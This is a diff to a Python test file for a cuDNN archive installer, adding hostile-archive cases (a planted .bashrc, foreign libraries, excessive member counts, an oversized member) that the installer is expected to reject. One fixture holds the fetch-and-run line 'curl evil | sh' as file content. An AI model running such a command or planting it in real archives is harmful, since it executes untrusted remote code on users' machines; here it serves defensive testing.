@@ -16,6 +16,7 @@ from pathlib import Path
 import pytest
 
 import cudatrees
+import seams
 import cudnn_archives as ca
 from conftest import run_cli
 
@@ -415,6 +416,19 @@ HOSTILE.update({
     "corrupt-zip-data": (lambda t: _corrupt(ca.write_zip(t / f"{WTOP}.zip", [
         (p, k, os.urandom(200_000) if p.endswith(".dll") else d)
         for p, k, d in ca.windows_entries("9.10.2.21", "12", "archive")])), "windows", ["truncated or corrupt"]),
+    # issue 14: only what a cuDNN archive contains, and limits before anything is written
+    "tar-dotfile-in-include": (lambda t: _tar_with(t, [(f"{TOP}/include/.bashrc", "file", b"curl evil | sh\n")]),
+                               "linux", ["include/.bashrc", "not a cuDNN file"]),
+    "tar-foreign-library": (lambda t: _tar_with(t, [(f"{TOP}/lib/libc.so.6", "file", b"\x7fELF")]), "linux",
+                            ["lib/libc.so.6", "not a cuDNN file"]),
+    "zip-foreign-dll": (lambda t: _zip_with(t, [(f"{WTOP}/bin/python311.dll", "file", b"MZ")]), "windows",
+                        ["bin/python311.dll", "not a cuDNN file"]),
+    "tar-too-many-members": (lambda t: ca.many_members_tar(t / f"{TOP}.tar.xz", 2500), "linux",
+                             ["more than 2000 members"]),
+    "zip-too-many-members": (lambda t: _zip_with(t, [(f"{WTOP}/include/cudnn_x{i}.h", "file", b"")
+                                                     for i in range(2500)]), "windows", ["more than 2000 members"]),
+    "tar-declares-a-9-gib-member": (lambda t: ca.huge_member_tar(t / f"{TOP}.tar.gz", 9 << 30), "linux",
+                                    ["more than 8 GiB", "libcudnn_engines_precompiled"]),
 })
 
 
@@ -736,7 +750,7 @@ def test_real_kill_mid_stream_of_the_real_tarball(real_tarball, linux_fs):
     root = fs / "usr/local/cuda-12.9"
     before = snap(fs)
     env = dict(env, PYTHONPATH=str(Path(__file__).resolve().parent.parent))
-    proc = subprocess.Popen([sys.executable, "-m", "cudaswitch", "install-cudnn", str(real_tarball), "-q"], env=env,
+    proc = subprocess.Popen([sys.executable, seams.ENTRY, "install-cudnn", str(real_tarball), "-q"], env=env,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     deadline = time.time() + 600
     staged = []
@@ -807,7 +821,7 @@ def test_progress_bar_only_on_a_terminal_and_not_with_quiet(tmp_path, win_fs):
 
     def on_tty(*extra):
         master, slave = pty.openpty()
-        proc = subprocess.run([sys.executable, "-m", "cudaswitch", "install-cudnn", str(big), "--cuda", "12.4",
+        proc = subprocess.run([sys.executable, seams.ENTRY, "install-cudnn", str(big), "--cuda", "12.4",
                                "--dry-run", *extra], env=env, stdout=subprocess.PIPE, stderr=slave, timeout=120)
         os.close(slave)
         chunks = []
@@ -851,7 +865,7 @@ def test_ctrl_c_while_unpacking_the_real_tarball_changes_nothing(real_tarball, l
     root = fs / "usr/local/cuda-12.9"
     before = snap(fs)
     env = dict(env, PYTHONPATH=str(Path(__file__).resolve().parent.parent))
-    proc = subprocess.Popen([sys.executable, "-m", "cudaswitch", "install-cudnn", str(real_tarball)], env=env,
+    proc = subprocess.Popen([sys.executable, seams.ENTRY, "install-cudnn", str(real_tarball)], env=env,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
     deadline = time.time() + 600
     while time.time() < deadline and proc.poll() is None:
